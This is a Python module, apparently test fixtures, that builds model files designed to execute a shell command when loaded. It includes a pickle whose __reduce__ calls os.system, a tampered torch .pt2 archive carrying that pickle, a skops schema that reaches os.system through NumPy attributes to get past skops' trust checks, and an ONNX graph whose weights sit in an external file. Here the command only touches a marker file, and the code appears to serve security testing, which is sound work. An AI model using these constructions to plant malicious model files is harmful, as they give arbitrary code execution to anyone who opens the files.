"""Model files that would run a command, written with the libraries that open them."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

import skops.io
from sklearn.linear_model import LogisticRegression

NUMPY = ("sklearn.ensemble._hist_gradient_boosting.gradient_boosting", "np")
"""A module that skops does not trust, by a name that another module has for it."""


class Command:
    """What runs `touch` when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.command = f"touch '{marker}'"

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def node(loader: str, thing: tuple[str, str], **more: Any) -> dict[str, Any]:
    return {"__class__": thing[1], "__module__": thing[0], "__loader__": loader, **more}


def method(owner: dict[str, Any], name: str) -> dict[str, Any]:
    """An attribute of what a node builds."""
    thing = (owner["__module__"], owner["__class__"])
    return node("MethodNode", thing, content={"func": name, "obj": owner})


def shell_of_numpy() -> dict[str, Any]:
    """`os.system`, reached from NumPy by attributes alone."""
    reached = node("FunctionNode", NUMPY)
    for name in ("testing", "_private", "utils", "os", "system"):
        reached = method(reached, name)
    return reached


def shell() -> dict[str, Any]:
    """`os.system` by its name."""
    return node("FunctionNode", ("os", "system"))


def caller() -> dict[str, Any]:
    """What calls the method of an object."""
    names = node("TupleNode", ("builtins", "tuple"), content=[])
    return node("OperatorFuncNode", ("operator", "methodcaller"), attrs=names)


def write_skops(path: Path, call: dict[str, Any], command: str) -> Path:
    """A file whose dictionary is built by calling `call` on its key."""
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps(LogisticRegression()))) as harmless:
        head = json.loads(harmless.read("schema.json"))
    value = node("JsonNode", ("builtins", "str"), content="1", is_json=True)
    schema = node(
        "DictNode",
        ("builtins", "dict"),
        content={command: value},
        key_types=node("ListNode", ("builtins", "list"), content=[call]),
        protocol=head["protocol"],
        _skops_version=head["_skops_version"],
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return path


def write_pt2(path: Path, marker: Path) -> Path:
    """An exported module with a constant that is a pickle."""
    import torch

    batch = torch.export.Dim("batch")
    module = torch.nn.Linear(2, 1)
    program = torch.export.export(module, (torch.zeros(3, 2),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    with zipfile.ZipFile(path) as archive:
        files = {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}
    (config,) = [name for name in files if name.endswith("constants_config.json")]
    constants = json.loads(files[config])
    constants["config"]["evil"] = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    files[config] = json.dumps(constants).encode()
    files[f"{config.rpartition('/')[0]}/opaque_obj_0"] = pickle.dumps(Command(marker))
    writer = torch._C.PyTorchFileWriter(str(path))
    for name, content in files.items():
        if not name.startswith(".") and name not in ("version", "byteorder"):
            writer.write_record(name, content, len(content))
    writer.write_end_of_file()
    return path


def write_onnx(path: Path, beside: str) -> Path:
    """A graph whose weights lie in another file."""
    from onnx import TensorProto, helper

    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2, 2])
    weights.data_location = TensorProto.EXTERNAL
    for key, value in (("location", beside), ("offset", "0"), ("length", "16")):
        weights.external_data.add(key=key, value=value)
    row = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])
    score = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
    product = helper.make_node("MatMul", ["x", "w"], ["y"])
    graph = helper.make_graph([product], "graph", [row], [score], [weights])
    opset = helper.make_opsetid("", 17)
    model = helper.make_model(graph, opset_imports=[opset], ir_version=9)
    path.write_bytes(model.SerializeToString())
    return path
